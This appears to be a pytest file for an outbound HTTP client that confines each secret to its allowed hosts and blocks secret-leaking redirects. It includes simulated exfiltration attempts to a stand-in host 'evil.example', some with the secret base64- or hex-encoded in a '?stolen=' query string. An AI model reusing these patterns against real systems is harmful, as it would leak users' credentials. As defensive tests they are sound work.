"""Where a secret may go: to the hosts on its list, also by way of redirects."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace

import pytest

from executions.outbound import OutboundClient
from executions.placeholders import Placeholders
from tenants.hosts import Hosts
from tests.bad_servers import Server, answer, redirect, serving
from tests.executions.calls import LOOPBACK, Names, failure, request
from workflows.steps.base import HttpFailure, HttpRequest

HOME, EVIL = "shop.example", "evil.example"
CLIENT = OutboundClient(
    LOOPBACK, lookup=Names(shop_example=[("127.0.0.1",)], evil_example=[("127.0.0.1",)])
)


def place(secrets: Placeholders, where: str, url: str) -> HttpRequest:
    """A request with the placeholder at one of its places."""
    text = secrets.names["key"]
    match where:
        case "path":
            return request(f"{url}{text}")
        case "query":
            return request(f"{url}?key={text}")
        case "header":
            return request(url, headers={"X-Key": f"Key {text}"})
        case "body":
            return request(url, "POST", body=b"<" + text.encode() + b">")
        case "user":
            return request(url, basic_auth=(text, "x"))
        case "password":
            return request(url, basic_auth=("x", text))
    raise AssertionError(where)


def only(port: int | None, *hosts: str) -> Placeholders:
    rules = tuple(host if port is None else f"{host}:{port}" for host in hosts)
    return Placeholders({"key": "s3cr3t-token", "other": "another value"}, {"key": Hosts(rules)})


@pytest.fixture
def server() -> Iterator[Server]:
    with serving(answer()) as made:
        yield made


PLACES = ["path", "query", "header", "body", "user", "password"]


@pytest.mark.parametrize("where", PLACES)
def test_a_secret_goes_to_a_host_on_its_list(where: str, server: Server) -> None:
    secrets = only(server.port, HOME)
    call = secrets.reveal(place(secrets, where, server.url("/", HOME)))
    assert CLIENT.send(call).status == 200


@pytest.mark.parametrize("where", PLACES)
def test_a_secret_goes_to_no_other_host_and_nothing_is_sent(where: str, server: Server) -> None:
    secrets = only(server.port, HOME)
    failed = failure(CLIENT, secrets.reveal(place(secrets, where, server.url("/", EVIL))))
    assert (failed.kind, failed.sent) == ("blocked", False)
    assert '"key"' in failed.message
    assert f"{EVIL}:{server.port}" in failed.message
    assert "s3cr3t" not in failed.message
    assert server.connections == 0


def test_a_host_in_another_spelling_is_the_same_one(server: Server) -> None:
    secrets = only(server.port, HOME)
    for host in ("SHOP.example", "shop%2Eexample", "shop\uff0eexample"):
        call = secrets.reveal(place(secrets, "header", server.url("/", host)))
        with suppress(HttpFailure):
            CLIENT.send(call)
    assert server.requests
    assert all(b"Host: shop.example" in sent for sent in server.requests)


def test_a_port_that_is_not_on_the_list_is_another_place(server: Server) -> None:
    secrets = only(None, HOME)
    failed = failure(CLIENT, secrets.reveal(place(secrets, "header", server.url("/", HOME))))
    assert failed.kind == "blocked"


def test_a_call_without_that_secret_goes_anywhere(server: Server) -> None:
    secrets = only(server.port, HOME)
    call = request(server.url("/", EVIL), headers={"X": secrets.names["other"]})
    assert CLIENT.send(secrets.reveal(call)).status == 200


def test_every_secret_of_a_call_must_be_allowed(server: Server) -> None:
    rules = {"one": Hosts((f"{EVIL}:{server.port}",)), "two": Hosts((HOME,))}
    secrets = Placeholders({"one": "first value", "two": "second value"}, rules)
    headers = {"A": secrets.names["one"], "B": secrets.names["two"]}
    failed = failure(CLIENT, secrets.reveal(request(server.url("/", EVIL), headers=headers)))
    assert '"two"' in failed.message


def test_a_host_that_is_a_secret_itself_is_held_against_the_list(server: Server) -> None:
    secrets = Placeholders({"host": EVIL}, {"host": Hosts((HOME,))})
    call = request(f"http://{secrets.names['host']}:{server.port}/")
    assert failure(CLIENT, secrets.reveal(call)).kind == "blocked"
    assert server.connections == 0


# --- Redirects ---------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["header", "user"])
def test_a_redirect_elsewhere_leaves_the_secret_behind(where: str, server: Server) -> None:
    with serving(redirect(server.url("/file", EVIL))) as first:
        secrets = only(first.port, HOME)
        call = secrets.reveal(place(secrets, where, first.url("/", HOME)))
        assert CLIENT.send(_following(call)).status == 200
    assert b"s3cr3t" not in server.requests[0]
    assert b"Authorization" not in server.requests[0]


@pytest.mark.parametrize("spelt", ["s3cr3t-token", "czNjcjN0LXRva2Vu", "7333637233742D746F6B656E"])
def test_a_redirect_may_not_carry_the_secret_elsewhere_in_its_address(
    spelt: str, server: Server
) -> None:
    with serving(redirect(server.url(f"/?stolen={spelt}", EVIL))) as first:
        secrets = only(first.port, HOME)
        call = secrets.reveal(place(secrets, "header", first.url("/", HOME)))
        failed = failure(CLIENT, _following(call))
    assert (failed.kind, failed.sent) == ("blocked", True)
    assert EVIL in failed.message
    assert server.connections == 0


def test_a_secret_without_a_list_follows_no_redirect_to_another_host(server: Server) -> None:
    with serving(redirect(server.url("/?stolen=s3cr3t-token", EVIL))) as first:
        secrets = Placeholders({"key": "s3cr3t-token"})
        call = secrets.reveal(place(secrets, "query", first.url("/", HOME)))
        failed = failure(CLIENT, _following(call))
    assert failed.kind == "blocked"
    assert "no list of hosts" in failed.message
    assert server.connections == 0


def test_a_secret_without_a_list_follows_to_another_port_of_the_same_host(server: Server) -> None:
    with serving(redirect(server.url("/?key=s3cr3t-token", HOME))) as first:
        secrets = Placeholders({"key": "s3cr3t-token"})
        call = secrets.reveal(place(secrets, "query", first.url("/", HOME)))
        assert CLIENT.send(_following(call)).status == 200


def test_a_redirect_to_another_host_on_the_list_is_followed(server: Server) -> None:
    with serving(redirect(server.url("/?key=s3cr3t-token", EVIL))) as first:
        rules = Hosts((f"{HOME}:{first.port}", f"{EVIL}:{server.port}"))
        secrets = Placeholders({"key": "s3cr3t-token"}, {"key": rules})
        call = secrets.reveal(place(secrets, "query", first.url("/", HOME)))
        assert CLIENT.send(_following(call)).status == 200


def _following(call: HttpRequest) -> HttpRequest:
    return replace(call, max_redirects=2)
